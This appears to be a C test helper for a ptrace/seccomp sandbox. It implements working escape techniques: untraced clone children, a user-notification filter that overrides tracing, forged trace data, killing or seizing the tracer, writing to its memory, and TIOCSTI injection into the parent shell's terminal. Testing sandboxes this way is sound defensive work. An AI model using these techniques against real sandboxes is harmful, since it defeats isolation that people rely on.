/* Ways out of the tracer's sight: `escape OP PATH [ARG]`; each ends in open(PATH, O_CREAT)
 * of a file the policy forbids, and the test looks for PATH on the host.
 *   untraced       a clone(CLONE_UNTRACED) child, seized by the attacker itself, which lets its
 *                  SECCOMP_RET_TRACE stops through
 *   untraced3      the same with clone3
 *   untraced_alone a CLONE_UNTRACED child left alone (RET_TRACE without a tracer)
 *   untraced80     untraced, with clone and ptrace through the i386 entry
 *   notify80       notify, with the filter installed through the i386 entry
 *   notify         an own filter returning SECCOMP_RET_USER_NOTIF (which outranks RET_TRACE),
 *                  answered by an own thread with SECCOMP_USER_NOTIF_FLAG_CONTINUE
 *   trace_data     a child with an own filter returning SECCOMP_RET_TRACE with forged data ARG
 *                  (the newest filter's data is what a tracer reads), its parent as would-be
 *                  tracer (without the policy the parent lets the call through)
 *   kill_tracer    SIGKILL to the process in TracerPid, then the write
 *   ptrace_tracer  PTRACE_SEIZE of the tracer, or of the parent when untraced (a tracer under
 *                  the attacker's control decides nothing any more)
 *   tracer_mem     open /proc/TRACER/mem for writing (or the parent's, when untraced): the
 *                  tracer's memory, hence its decisions, in the attacker's hands
 *   tiocsti        push PATH's text into the input of the terminal on stdin: whoever reads it
 *                  next (the shell that started the sandbox) runs it, outside any policy
 *   fds            list the descriptors beyond stdio the process was started with (a leaked
 *                  socket to the runtime or the tracer, a directory outside the root); "got
 *                  through" when there is one. PATH is ignored.
 *   append_loop    append a line to PATH every 10 ms, forever (for killing the tracer from
 *                  outside: nothing may be written once it is gone) */
#include "common.h"
#include <dirent.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>

static const char *target;

static long creat_target(void)
{
    long fd = syscall(SYS_open, target, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0 && write((int)fd, "attack\n", 7) < 0)
        return -1;
    return fd;
}

enum { I386_PTRACE = 26, I386_CLONE = 120, I386_SECCOMP = 354 };
static int via_int80;

static long trace_call(long request, pid_t pid, long data)
{
    if (via_int80)
        return sys_result(int80(I386_PTRACE, request, pid, 0, data));
    return ptrace(request, pid, 0, data);
}

static pid_t clone_untraced(int use_clone3)
{
    if (via_int80)  /* i386 clone: flags, newsp, parent_tid, tls, child_tid */
        return (pid_t)sys_result(int80(I386_CLONE, CLONE_UNTRACED | SIGCHLD, 0, 0, 0));
    if (use_clone3) {
        struct clone_args ca = {.flags = CLONE_UNTRACED, .exit_signal = SIGCHLD};
        return (pid_t)syscall(SYS_clone3, &ca, sizeof ca);
    }
    return (pid_t)syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
}

static int install(struct sock_filter *prog, unsigned short len, unsigned flags)
{
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
        die_setup("no_new_privs");
    if (via_int80) {
        /* the compat sock_fprog: a u16 length and a 32-bit pointer, all below 4 GiB */
        char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (low == MAP_FAILED)
            die_setup("mmap(MAP_32BIT)");
        struct { unsigned short len; unsigned filter; } *f32 = (void *)low;
        memcpy(low + 64, prog, len * sizeof *prog);
        f32->len = len;
        f32->filter = (unsigned)(unsigned long)(low + 64);
        return (int)sys_result(int80(I386_SECCOMP, SECCOMP_SET_MODE_FILTER, flags,
                                     (long)f32, 0));
    }
    struct sock_fprog fprog = {.len = len, .filter = prog};
    return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &fprog);
}

/* return `action` for open(2), allow the rest */
#define OWN_FILTER(action)                                                        \
    struct sock_filter prog[] = {                                                 \
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),   \
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_open, 0, 1),                     \
        BPF_STMT(BPF_RET | BPF_K, (action)),                                      \
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),                             \
    }

static int trace_filter(unsigned data)
{
    OWN_FILTER(SECCOMP_RET_TRACE | (data & SECCOMP_RET_DATA));
    return install(prog, 4, 0);
}

/* the child waits on a pipe until its parent has (or has not) seized it; then, with
 * own_filter, installs a filter returning RET_TRACE with forged data before its write */
static int spawn(int use_clone3, int untraced, int seize, int own_filter, unsigned data)
{
    int go[2];
    if (pipe(go) < 0)
        die_setup("pipe");
    pid_t child = untraced ? clone_untraced(use_clone3) : fork();
    if (child < 0)
        return report(use_clone3 ? "clone3(CLONE_UNTRACED)" : "clone(CLONE_UNTRACED)", -1);
    if (child == 0) {
        char c;
        if (read(go[0], &c, 1) != 1)
            _exit(SETUP);
        if (own_filter && trace_filter(data) < 0)
            _exit(report("seccomp(SECCOMP_SET_MODE_FILTER)", -1));
        _exit(report("child: open(O_CREAT)", creat_target()));
    }
    if (seize &&
        trace_call(PTRACE_SEIZE, child, PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL) < 0)
        printf("PTRACE_SEIZE of the child: %s\n", strerror(errno));
    if (write(go[1], "g", 1) != 1)
        die_setup("write");
    int status;
    for (;;) {
        if (waitpid(child, &status, __WALL) < 0)
            die_setup("waitpid");
        if (WIFEXITED(status) || WIFSIGNALED(status))
            break;
        int sig = WSTOPSIG(status);
        /* the attacker's tracer: every seccomp stop is simply let through */
        trace_call(PTRACE_CONT, child, (status >> 16) || sig == SIGTRAP ? 0 : sig);
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : BLOCKED;
}

static void *continue_all(void *arg)
{
    int listener = *(int *)arg;
    for (;;) {
        struct seccomp_notif req;
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
            return NULL;
        struct seccomp_notif_resp resp = {.id = req.id,
                                          .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static int notify(void)
{
    OWN_FILTER(SECCOMP_RET_USER_NOTIF);
    static int listener;
    listener = install(prog, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    if (listener < 0)
        return report("seccomp(SECCOMP_FILTER_FLAG_NEW_LISTENER)", -1);
    pthread_t th;
    pthread_create(&th, NULL, continue_all, &listener);
    return report("open(O_CREAT) under an own USER_NOTIF filter", creat_target());
}


static pid_t tracer_pid(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    pid_t pid = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "TracerPid: %d", &pid) == 1)
            break;
    if (f)
        fclose(f);
    printf("TracerPid: %d\n", pid);
    return pid;
}

int main(int argc, char **argv)
{
    need_args(argc, argv, 3, "escape OP PATH [ARG]");
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *op = argv[1];
    target = argv[2];
    if (strcmp(op, "untraced") == 0)
        return spawn(0, 1, 1, 0, 0);
    if (strcmp(op, "untraced3") == 0)
        return spawn(1, 1, 1, 0, 0);
    via_int80 = strcmp(op, "untraced80") == 0 || strcmp(op, "notify80") == 0;
    if (strcmp(op, "untraced80") == 0)
        return spawn(0, 1, 1, 0, 0);
    if (strcmp(op, "notify80") == 0)
        return notify();
    if (strcmp(op, "untraced_alone") == 0)
        return spawn(0, 1, 0, 0, 0);
    if (strcmp(op, "notify") == 0)
        return notify();
    if (strcmp(op, "trace_data") == 0)
        return spawn(0, 0, 1, 1, argc > 3 ? (unsigned)strtoul(argv[3], NULL, 0) : 0);
    if (strcmp(op, "kill_tracer") == 0) {
        pid_t t = tracer_pid();
        if (t > 0 && kill(t, SIGKILL) == 0)
            usleep(200000);
        return report("open(O_CREAT) after killing the tracer", creat_target());
    }
    if (strcmp(op, "ptrace_tracer") == 0) {
        pid_t t = tracer_pid();
        if (t <= 0)
            t = getppid();
        if (ptrace(PTRACE_SEIZE, t, 0, 0) < 0)
            return report("PTRACE_SEIZE of the tracer", -1);
        /* holding the tracer is the compromise: it can be stopped and its memory rewritten;
         * the seize is all this shows (the attacker's exit detaches it) */
        return report("PTRACE_SEIZE of the tracer", t);
    }
    if (strcmp(op, "tracer_mem") == 0) {
        pid_t t = tracer_pid();
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/mem", t > 0 ? t : getppid());
        return report("open(/proc/TRACER/mem, O_RDWR)", syscall(SYS_open, p, O_RDWR));
    }
    if (strcmp(op, "tiocsti") == 0) {
        long rc = 0;
        for (const char *c = target; *c && rc == 0; c++)
            rc = ioctl(0, TIOCSTI, c);
        return report("ioctl(TIOCSTI)", rc);
    }
    if (strcmp(op, "fds") == 0) {
        DIR *d = opendir("/proc/self/fd");
        if (!d)
            die_setup("/proc/self/fd");
        int leaked = 0;
        for (struct dirent *e; (e = readdir(d));) {
            int fd = atoi(e->d_name);
            if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
                continue;
            char link[64], target[4096];
            snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n < 0 ? 0 : n] = 0;
            printf("fd %d: %s\n", fd, target);
            leaked++;
        }
        closedir(d);
        errno = 0;
        return report("descriptors beyond stdio", leaked ? leaked : -1);
    }
    if (strcmp(op, "append_loop") == 0) {
        for (unsigned i = 0;; i++) {
            int fd = (int)syscall(SYS_open, target, O_WRONLY | O_APPEND | O_CREAT, 0644);
            if (fd < 0)
                return report("open(O_APPEND)", -1);
            dprintf(fd, "line %u\n", i);
            close(fd);
            usleep(10000);
        }
    }
    fprintf(stderr, "escape: unknown op %s\n", op);
    return SETUP;
}
